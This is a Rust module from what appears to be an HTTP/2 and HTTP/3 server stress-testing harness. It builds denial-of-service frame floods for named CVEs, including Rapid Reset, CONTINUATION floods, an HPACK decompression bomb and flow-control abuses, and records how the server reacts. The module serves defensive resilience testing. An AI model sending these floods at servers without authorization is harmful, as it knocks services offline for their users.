//! HTTP/2 and HTTP/3 frames that cost the server more than the client: a number of frames of one
//! kind, on a few connections, at a pace, with well-behaved clients alongside. All limits are in
//! the case file.

mod streams;

use crate::pressure::{Ended, Plan, Round};
use crate::{Runner, bounds, habits, pressure};
use conduit::streams::HEAD;
use dialogue::calls;
use dialogue::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, Protocol, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, write,
};
use dialogue::http3;
use dialogue::talk::{Awaited, Move, TalkEnd, TalkScript};
use sample::http2_code_name;
use std::collections::BTreeMap;
use torture::case::{Case, FloodKind, FrameFlood};
use torture::judge::PressureOutcome;
use torture::record;
use torture::result::{CaseResult, Measure, Unit};
use units::{Nanos, show};

/// Maximum number of frames per connection, whatever a file requests.
const FRAMES_MAX: u64 = 10_000;
/// Interval between the starts of two connections.
const APART: Nanos = Nanos::from_millis(20);
/// Maximum lifetime of a connection that the server does not close.
const LIFE: Nanos = Nanos::from_secs(120);
const CANCEL: [u8; 4] = [0, 0, 0, 8];
const HEADER_TABLE_SIZE: u16 = 1;
const INITIAL_WINDOW_SIZE: u16 = 4;
/// Size of the field that the bomb references repeatedly; the default table has room for it.
const BOMB_FIELD: usize = 3_900;
/// References per block: a thousand bytes expand to some four million.
const BOMB_TIMES: usize = 1_000;
/// The newest entry of the dynamic table, as an indexed field (RFC 7541 sections 2.3.3 and 6.1).
const NEWEST: u8 = 0x80 | 62;
/// The prefix of a message of gRPC that is longer than the flood.
const SINGLE_PREFIX: [u8; 5] = [0, 0, 1, 0, 0];
/// Size of a field that is not in the static table.
const FILLER: usize = 64;

/// Builds one frame, or a pair of frames, of the flood.
type Make = fn(&Flood<'_>, u32) -> Vec<u8>;

/// Inputs for the frames.
struct Flood<'a> {
    /// Header block of a plain request; over HTTP/3, the frame that contains it.
    block: &'a [u8],
    /// The message of a plain call of gRPC; empty for other requests.
    message: &'a [u8],
}

impl Flood<'_> {
    fn request(&self, number: u32) -> Vec<u8> {
        let stream = 2 * number + 1;
        match self.message {
            [] => write::request(stream, self.block),
            message => calls::call(stream, self.block, message),
        }
    }

    /// Returns a request whose content never arrives.
    fn unfinished_request(&self, number: u32) -> Vec<u8> {
        write::frame(HEADERS, END_HEADERS, 2 * number + 1, self.block)
    }
}

/// Kind of flood: its initial frames, and the repeated ones.
struct FloodFrames {
    kind: FloodKind,
    before: Make,
    each: Make,
}

const fn kind(kind: FloodKind, before: Make, each: Make) -> FloodFrames {
    FloodFrames { kind, before, each }
}

fn nothing(_: &Flood<'_>, _: u32) -> Vec<u8> {
    Vec::new()
}

const KINDS: [FloodFrames; 18] = [
    // CVE-2023-44487
    kind(FloodKind::Reset, nothing, |flood, number| {
        [flood.request(number), write::frame(RST_STREAM, 0, 2 * number + 1, &CANCEL)].concat()
    }),
    // CVE-2025-8671: the client makes the server reset
    kind(FloodKind::MadeReset, nothing, |flood, number| {
        [flood.request(number), write::frame(WINDOW_UPDATE, 0, 2 * number + 1, &[0; 4])].concat()
    }),
    // CVE-2024-27316 and its family
    kind(
        FloodKind::Continuation,
        |flood, _| write::frame(HEADERS, END_STREAM, 1, flood.block),
        |_, number| write::frame(CONTINUATION, 0, 1, &filler(number)),
    ),
    kind(
        FloodKind::EmptyContinuation,
        |flood, _| write::frame(HEADERS, END_STREAM, 1, flood.block),
        |_, _| write::frame(CONTINUATION, 0, 1, &[]),
    ),
    // CVE-2019-9512, 9515, 9518, 9513, 9511, 9517
    kind(FloodKind::Ping, nothing, |_, number| {
        write::frame(PING, 0, 0, &u64::from(number).to_be_bytes())
    }),
    kind(FloodKind::Settings, nothing, |_, _| write::frame(SETTINGS, 0, 0, &[])),
    kind(FloodKind::SettingsChanged, nothing, |_, number| {
        let table = write::setting(HEADER_TABLE_SIZE, 4_096 * (number % 2));
        let window = write::setting(INITIAL_WINDOW_SIZE, 65_535 + number % 2);
        write::frame(SETTINGS, 0, 0, &[table, window].concat())
    }),
    kind(
        FloodKind::EmptyData,
        |flood, _| flood.unfinished_request(0),
        |_, _| write::frame(DATA, 0, 1, &[]),
    ),
    // a buffer, a wake-up or a credit per byte of a message
    kind(
        FloodKind::SingleBytes,
        |flood, _| [flood.unfinished_request(0), write::frame(DATA, 0, 1, &SINGLE_PREFIX)].concat(),
        |_, _| write::frame(DATA, 0, 1, b"a"),
    ),
    kind(FloodKind::Priority, nothing, |_, number| {
        let (stream, parent) = (2 * (number % 100) + 1, 2 * ((number + 1) % 100) + 1);
        write::frame(PRIORITY, 0, stream, &[&parent.to_be_bytes()[..], &[15]].concat())
    }),
    kind(FloodKind::Unknown, nothing, |_, _| write::frame(250, 0, 0, b"loadstone")),
    kind(
        FloodKind::WindowOfOne,
        |flood, _| {
            let window = write::setting(INITIAL_WINDOW_SIZE, 1);
            [write::frame(SETTINGS, 0, 0, &window), flood.request(0)].concat()
        },
        |_, _| write::frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
    ),
    kind(
        FloodKind::WindowOfZero,
        |_, _| write::frame(SETTINGS, 0, 0, &write::setting(INITIAL_WINDOW_SIZE, 0)),
        |flood, number| flood.request(number),
    ),
    kind(FloodKind::Streams, nothing, |flood, number| flood.unfinished_request(number)),
    kind(
        FloodKind::HpackBomb,
        |flood, _| {
            let mut block = flood.block.to_vec();
            hpack_kept(BOMB_FIELD, &mut block);
            write::request(1, &block)
        },
        |flood, number| {
            let block = [flood.block, &[NEWEST; BOMB_TIMES]].concat();
            write::request(2 * number + 3, &block)
        },
    ),
    kind(FloodKind::TableChurn, nothing, |flood, number| {
        let mut block = flood.block.to_vec();
        block.extend(filler_kept(number));
        write::request(2 * number + 1, &block)
    }),
    // a priority table that grows with streams that never open
    kind(FloodKind::IdlePriorities, nothing, |_, number| {
        write::frame(PRIORITY, 0, 2 * number + 1, &[0, 0, 0, 0, 15])
    }),
    kind(FloodKind::WindowUpdates, nothing, |_, _| {
        write::frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])
    }),
];

/// Returns a literal without indexing, different each time.
fn filler(number: u32) -> Vec<u8> {
    let mut out = Vec::new();
    let name = format!("x-{number}");
    write::field(name.as_bytes(), &[b'a'; FILLER], &mut out);
    out
}

/// Returns a literal with indexing, different each time.
fn filler_kept(number: u32) -> Vec<u8> {
    let mut out = Vec::new();
    let name = format!("x-{number}");
    write::kept_field(name.as_bytes(), &[b'a'; FILLER], &mut out);
    out
}

/// Appends the filler field to an HTTP/3 section.
fn filler_line(number: u32, section: &mut Vec<u8>) {
    let name = format!("x-{number}");
    http3::write::field(name.as_bytes(), &[b'a'; FILLER], section);
}

fn hpack_kept(bytes: usize, block: &mut Vec<u8>) {
    write::kept_field(b"x-a", &vec![b'a'; bytes], block);
}

pub(super) fn run(
    runner: &mut Runner<'_>,
    case: &Case,
    with: &FrameFlood,
    result: &mut CaseResult,
) {
    if let Some(why) = pressure::noise(runner) {
        result.outcome = PressureOutcome::Inconclusive.into();
        result.notes.push(why);
        return;
    }
    let connections = bounds::connections_max(runner.world.governor(), with.connections);
    let script = script(runner, with);
    let bytes = record::sent(&script.steps).len() as u64;
    let scripts = (0..connections).map(|_| script.clone()).collect();
    let plan = Plan { armed_early: true, ..Plan::paced(scripts, APART, with.hold) };
    let round = pressure::confirmed_round(runner, &case.id, &plan);
    let over_quic = runner.target.protocol.is_http3();
    report(with, &round, (connections, bytes, over_quic), result);
}

/// Returns the frames of a kind.
fn frames_of(kind: FloodKind) -> &'static FloodFrames {
    let mut kinds = KINDS.iter().chain(&streams::KINDS);
    kinds.find(|one| one.kind == kind).expect("every kind defines its frames")
}

/// Returns the script of one flooding connection.
fn script(runner: &mut Runner<'_>, with: &FrameFlood) -> TalkScript {
    let kind = frames_of(with.kind);
    let request = habits::plain_frame(runner.target, "");
    let over_quic = runner.target.protocol.is_http3();
    let block = match over_quic {
        true => request.get(HEAD..).unwrap_or_default(),
        false => write::first_payload(&request),
    };
    let flood = Flood { block, message: &runner.target.values.message };
    let before = (kind.before)(&flood, 0);
    let mut steps = match over_quic {
        true => vec![Move::Send([http3::write::opening(), before].concat())],
        false => vec![
            Move::Send(write::opening()),
            Move::Await(Awaited::Settings),
            Move::Send([write::settings_ack(), before].concat()),
        ],
    };
    let count = with.frames.min(FRAMES_MAX) as u32;
    let each = (with.each.max(1) as u32).min(count.max(1));
    let mut at = 0;
    while at < count {
        let end = count.min(at + each);
        steps.push(Move::Send((at..end).flat_map(|number| (kind.each)(&flood, number)).collect()));
        steps.push(Move::Pause(with.pause));
        at = end;
    }
    let protocol = if over_quic { Protocol::Http3 } else { Protocol::Http2Raw };
    TalkScript { hold: true, protocol, ..runner.bare(steps, LIFE) }
}

/// Records the effect on well-behaved clients, and the server's reaction to the flood.
fn report(
    with: &FrameFlood,
    round: &Round,
    (connections, bytes, over_quic): (u64, u64, bool),
    result: &mut CaseResult,
) {
    result.show(round.outcome);
    result.health = Some(round.health);
    result.notes.extend(round.notes.iter().cloned());
    if round.health.cut_short {
        return;
    }
    let is_by_server =
        |one: &Ended| !one.by_us && matches!(one.end, TalkEnd::Closed | TalkEnd::Broken(_));
    let mut words: BTreeMap<String, u64> = BTreeMap::new();
    for one in &round.ended {
        let word = match (one.goaway_code, is_by_server(one)) {
            (Some(code), _) if over_quic => {
                format!("CONNECTION_CLOSE {}", http3::code_name(code))
            }
            (Some(code), _) => format!("GOAWAY {}", http2_code_name(code)),
            (None, true) => "closed without a message".to_owned(),
            (None, false) if one.by_us => "closed by us".to_owned(),
            (None, false) => "nothing".to_owned(),
        };
        *words.entry(word).or_default() += 1;
    }
    let text: Vec<String> =
        words.iter().map(|(word, count)| format!("{word} on {count}")).collect();
    let ended = round.ended.iter().filter(|one| is_by_server(one) || one.goaway_code.is_some());
    let ended: Vec<u64> = ended.map(|one| one.sent).collect();
    result.measures.push(Measure {
        what: format!("{} until the server ends it", with.kind.word()),
        low: ended.iter().min().or(Some(&bytes)).map(|sent| *sent as f64),
        high: ended.iter().max().filter(|_| !ended.is_empty()).map(|sent| *sent as f64),
        unit: Unit::Bytes,
        note: format!(
            "{} frames, {}, on each of {connections} connections: {}",
            with.frames,
            show::bytes(bytes),
            text.join(", ")
        ),
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_flood_kind_has_distinct_frames() {
        for kind in FloodKind::ALL {
            assert_eq!(frames_of(*kind).kind, *kind);
        }
        assert_eq!(KINDS.len() + streams::KINDS.len(), FloodKind::ALL.len());
        assert!(KINDS.iter().all(|one| !one.kind.is_over_quic()));
        assert!(streams::KINDS.iter().all(|one| one.kind.is_over_quic()));
    }
}
